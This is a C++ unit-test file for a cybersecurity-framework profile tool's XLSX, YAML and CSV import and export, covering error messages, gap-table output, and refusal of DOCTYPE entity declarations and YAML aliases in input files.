      only_error(import(
          TableFormat::k_xlsx,
          make_zip(
              {{"xl/worksheets/sheet1.xml", k_sheet_open + k_sheet_close},
               {"xl/sharedStrings.xml",
                R"(<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "aaaa">]><sst><si><t>&a;</t></si></sst>)"}}))),
      "the part xl/sharedStrings.xml has a DOCTYPE declaration; XLSX files never need one, "
      "and it is refused because it can declare entities");
  // An undeclared entity is a well-formedness error, not an expansion.
  auto result =
      import(TableFormat::k_xlsx,
             make_xlsx(R"(<row r="1"><c r="A1" t="inlineStr"><is><t>&xxe;</t></is></c></row>)"));
  ASSERT_EQ(result.errors.size(), 1u);
  EXPECT_TRUE(result.errors[0].message.starts_with(
      "the part xl/worksheets/sheet1.xml is not well-formed XML (line 1): Entity 'xxe' not "
      "defined"))
      << result.errors[0].message;
}

TEST(ExchangeXlsxErrors, BadSharedStringIndex) {
  std::string rows = R"(<row r="1"><c r="A1" t="s"><v>5</v></c></row>)";
  EXPECT_EQ(only_error(import(TableFormat::k_xlsx, make_xlsx(rows, "<si><t>node</t></si>"))),
            "cell A1 refers to shared string '5', but the workbook has 1");
}

TEST(ExchangeXlsx, ColumnReferences) {
  EXPECT_EQ(xlsx::column_of_reference("A1"), 0u);
  EXPECT_EQ(xlsx::column_of_reference("Z9"), 25u);
  EXPECT_EQ(xlsx::column_of_reference("AA10"), 26u);
  EXPECT_EQ(xlsx::column_of_reference("XFD1048576"), 16383u);
  EXPECT_EQ(xlsx::column_of_reference("1A"), std::string::npos);
  EXPECT_EQ(xlsx::column_of_reference("ABCD1"), std::string::npos);
  EXPECT_EQ(xlsx::column_letters(0), "A");
  EXPECT_EQ(xlsx::column_letters(27), "AB");
  EXPECT_EQ(xlsx::column_letters(16383), "XFD");
}

// ------------------------------------------------------------------------------------------ YAML

TEST(ExchangeYaml, ReadsAHandWrittenFile) {
  auto result = import(TableFormat::k_yaml, read_file("profile.yaml"));
  ASSERT_TRUE(result.errors.empty()) << ::testing::PrintToString(messages(result));
  ASSERT_EQ(result.rows.size(), 3u);
  EXPECT_EQ(result.rows[0].priority, 1);
  EXPECT_TRUE(result.rows[1].not_applicable);
  EXPECT_EQ(result.rows[2].node, "ID.AM-1");
  EXPECT_EQ(result.rows[2].owner, "IT Ops");
  EXPECT_EQ(result.rows[2].priority, 3);
}

TEST(ExchangeYamlErrors, AnotherFramework) {
  EXPECT_EQ(only_error(import(TableFormat::k_yaml, read_file("other-framework.yaml"))),
            "column framework: the file is a profile of framework 'nist-csf-1.1', but profile "
            "'Current 2024' is of framework 'iso-tr-27103-2018'");
}

TEST(ExchangeYamlErrors, RowsAreEntriesOfTheList) {
  const std::string head = "profile: P\nframework: iso-tr-27103-2018\nkind: current\nnodes:\n";
  EXPECT_EQ(only_error(import(TableFormat::k_yaml,
                              head + "  - { node: ID.BE-1, level: 3 }\n  - node: ID.BE-2\n"
                                     "    level: 9\n")),
            "row 2, column level: level 9 of ID.BE-2 is outside the scale cyberframe-0-5 (0-5) "
            "(entry 2 of 'nodes', line 6)");
  EXPECT_EQ(only_error(import(TableFormat::k_yaml, head + "  - { node: ID.BE-1, colour: red }\n")),
            "row 1, column colour: unknown key 'colour'; the keys are node, title, description, "
            "level, not_applicable, justification, owner, priority, notes (entry 1 of 'nodes', "
            "line 5)");
  EXPECT_EQ(only_error(import(TableFormat::k_yaml,
                              head + "  - { node: ID.BE-1 }\n  - { node: ID.BE-1, level: 2 }\n")),
            "row 2, column node: node ID.BE-1 appears again; its first row is row 1 (entry 2 of "
            "'nodes', line 6)");
  EXPECT_EQ(
      only_error(import(TableFormat::k_yaml, head + "  - { node: ID.BE-1, owner: [a, b] }\n")),
      "row 1, column owner: 'owner' must be a single value, found a list (entry 1 of "
      "'nodes', line 5)");
  EXPECT_EQ(only_error(import(TableFormat::k_yaml, head + "  - ID.BE-1\n")),
            "row 1: expected a map with node, level, not_applicable, justification, owner, "
            "priority and notes; found text (entry 1 of 'nodes', line 5)");
}

TEST(ExchangeYamlErrors, DocumentProblems) {
  EXPECT_EQ(only_error(import(TableFormat::k_yaml, "")),
            "the file is empty; expected a profile document: { profile: NAME, framework: "
            "iso-tr-27103-2018, kind: current|target, nodes: [...] }");
  EXPECT_EQ(only_error(import(TableFormat::k_yaml, "nodes: [\n")).substr(0, 38),
            "not a readable YAML document: line 2, ");
  EXPECT_EQ(only_error(import(TableFormat::k_yaml, "- a\n- b\n")),
            "expected a profile document, a map with profile, framework, kind and nodes; found a "
            "list");
  EXPECT_EQ(only_error(import(TableFormat::k_yaml, "framework: iso-tr-27103-2018\n")),
            "column nodes: missing 'nodes': the list of node assessments");
  EXPECT_EQ(only_error(import(TableFormat::k_yaml, "nodes: []\n")),
            "column framework: missing 'framework': name the framework of the profile "
            "(iso-tr-27103-2018)");
  EXPECT_EQ(only_error(import(TableFormat::k_yaml,
                              "framework: iso-tr-27103-2018\nkind: wished\nnodes: []\n")),
            "column kind: kind 'wished' is not current or target (line 2)");
  EXPECT_EQ(only_error(
                import(TableFormat::k_yaml, "framework: iso-tr-27103-2018\nscore: 3\nnodes: []\n")),
            "column score: unknown key 'score' (line 2); the keys are profile, framework, kind "
            "and nodes");
  EXPECT_EQ(only_error(import(TableFormat::k_yaml,
                              "framework: iso-tr-27103-2018\nnodes:\n  - &a { node: ID.BE-1 }\n"
                              "  - *a\n")),
            "YAML aliases ('*name') are not allowed in profile files (line 4); write the content "
            "out");
  EXPECT_EQ(only_error(import(TableFormat::k_yaml, "framework: x\n\xC3\x28\n")),
            "the file is not UTF-8 text: byte 0xC3 on line 2 (offset 13) is invalid; save the file "
            "as UTF-8");
  // A profile with no nodes at all is fine.
  EXPECT_TRUE(import(TableFormat::k_yaml, "framework: iso-tr-27103-2018\nnodes:\n").errors.empty());
}

// ------------------------------------------------------------------------------------------ gaps

TEST(ExchangeGaps, CsvAndXlsxTables) {
  std::map<std::string, core::NodeAssessment> current = {{"ID.BE-1", assessment("ID.BE-1", 1)}};
  current["ID.BE-1"].owner = "Procurement";
  std::map<std::string, core::NodeAssessment> target = {{"ID.BE-1", assessment("ID.BE-1", 4)},
                                                        {"ID.BE-2", assessment("ID.BE-2", 3)}};
  target["ID.BE-2"].priority = 1;
  auto gaps = core::analyse_gaps(cat(), k_framework, core::default_scale(), current, target);

  auto text = export_gaps(cat(), gaps, TableFormat::k_csv);
  // ID.BE-2: gap 3 (from the scale minimum), high priority: 3 * 3 = 9. ID.BE-1: 3 * 2 = 6.
  EXPECT_EQ(text,
            "\xEF\xBB\xBFrank,node,level,outcome,current,target,gap,priority,owner,score\r\n"
            "1,ID.BE-2,subcategory,The organization's place in critical infrastructure and its "
            "industry sector is identified and communicated,,3,3,1,,9\r\n"
            "2,ID.BE-1,subcategory,The organization's role in the supply chain is identified and "
            "communicated,1,4,3,2,Procurement,6\r\n");

  auto bytes = export_gaps(cat(), gaps, TableFormat::k_xlsx);
  std::vector<std::vector<std::string>> rows;
  auto budget = xlsx_budget();
  auto read = xlsx::read_first_sheet(bytes, budget, [&](const xlsx::Row& r) {
    std::vector<std::string> cells(10);
    for (const auto& c : r.cells) cells.at(c.column) = c.text;
    rows.push_back(cells);
    return true;
  });
  ASSERT_TRUE(read) << read.error().message;
  ASSERT_EQ(rows.size(), 3u);
  EXPECT_EQ(rows[0], (std::vector<std::string>{"rank", "node", "level", "outcome", "current",
                                               "target", "gap", "priority", "owner", "score"}));
  EXPECT_EQ(rows[2], (std::vector<std::string>{"2", "ID.BE-1", "subcategory",
                                               "The organization's role in the supply chain is "
                                               "identified and communicated",
                                               "1", "4", "3", "2", "Procurement", "6"}));
  auto sheet = read_part(bytes, "xl/worksheets/sheet1.xml");
  ASSERT_TRUE(sheet);
  EXPECT_NE(sheet->find(R"(<autoFilter ref="A1:J3"/>)"), std::string::npos) << *sheet;
}

// ----------------------------------------------------------------------------------- volume

TEST(ExchangeVolume, HundredThousandRowsOfDuplicatesStopAfterOneHundredErrors) {
  // The framework has ~88 assessed nodes, so 100,000 rows repeat them.
  std::vector<const core::Node*> order;
  for (const auto* n : cat().nodes_in_order(k_framework))
    if (core::assessed_directly(*cat().framework(k_framework), *n)) order.push_back(n);
  std::string text = k_header;
  for (std::size_t i = 0; i < 100000; ++i) {
    text += order[i % order.size()]->id + ",3,,,Owner " + std::to_string(i) +
            ",2,\"a note, quoted\"\r\n";
  }
  auto result = import(TableFormat::k_csv, text);
  EXPECT_TRUE(result.rows.empty());
  ASSERT_EQ(result.errors.size(), 101u);
  auto first_duplicate = order.size() + 2;  // the header is row 1
  EXPECT_EQ(result.errors[0].to_string(), "row " + std::to_string(first_duplicate) +
                                              ", column node: node " + order[0]->id +
                                              " appears again; its first row is row 2");
  EXPECT_EQ(result.errors.back().to_string(),
            "too many errors: stopped after the first 100 (at row " +
                std::to_string(first_duplicate + 100) + ")");
}

// A framework of 100,000 subcategories, so that a 100,000-row file is valid and read to the end.
const core::Catalog& big_catalog() {
  static const core::Catalog catalog = [] {
    core::Framework fw;
    fw.id = "volume";
    fw.title = "Volume";
    core::Node function{.id = "F", .level = core::Level::k_function, .title = "F"};
    core::Node category{.id = "F.C", .level = core::Level::k_category, .title = "C"};
    for (int i = 1; i <= 100000; ++i) {
      core::Node sub;
      sub.id = "F.C-" + std::to_string(i);
      sub.level = core::Level::k_subcategory;
      sub.description = "Outcome " + std::to_string(i);
      category.children.push_back(std::move(sub));
    }
    function.children.push_back(std::move(category));
    fw.nodes.push_back(std::move(function));
    core::Catalog c;
    c.add(std::move(fw));
    c.index();
    return c;
  }();
  return catalog;
}

// Speed is measured in bench/ (cyberframe_bench), not asserted here.
TEST(ExchangeVolume, HundredThousandValidRowsRoundTrip) {
  core::Profile p;
  p.name = "Volume";
  p.framework = "volume";
  const auto& scale = core::default_scale();
  // Every export has a row per node (100,000); yaml-cpp is slow, so the YAML file has fewer
  // filled in to keep the suite quick.
  for (auto [format, count] :
       {std::pair{TableFormat::k_csv, 100000}, std::pair{TableFormat::k_xlsx, 100000},
        std::pair{TableFormat::k_yaml, 10000}}) {
    std::map<std::string, core::NodeAssessment> assessments;
    for (int i = 1; i <= count; ++i) {
      auto a = assessment("F.C-" + std::to_string(i), i % 6);
      a.owner = "Team " + std::to_string(i % 17);
      a.notes = i % 3 ? "" : "Checked, \"with quotes\"\nand a new line";
      a.priority = 1 + i % 3;
      assessments[a.node] = std::move(a);
    }
    const char* name = format == TableFormat::k_csv    ? "CSV"
                       : format == TableFormat::k_xlsx ? "XLSX"
                                                       : "YAML";
    SCOPED_TRACE(name);
    auto bytes = export_profile(big_catalog(), p, assessments, format);
    auto result = import_profile(big_catalog(), p, scale, format, bytes);
    ASSERT_TRUE(result.errors.empty()) << result.errors[0].to_string();
    ASSERT_EQ(result.rows.size(), static_cast<std::size_t>(count));
    auto last = "F.C-" + std::to_string(count);
    EXPECT_EQ(result.rows.back().node, last);
    EXPECT_EQ(result.rows.back().notes, assessments.at(last).notes);
    EXPECT_EQ(result.rows[2].notes, "Checked, \"with quotes\"\nand a new line");
  }
}

}  // namespace
}  // namespace cyberframe::exchange
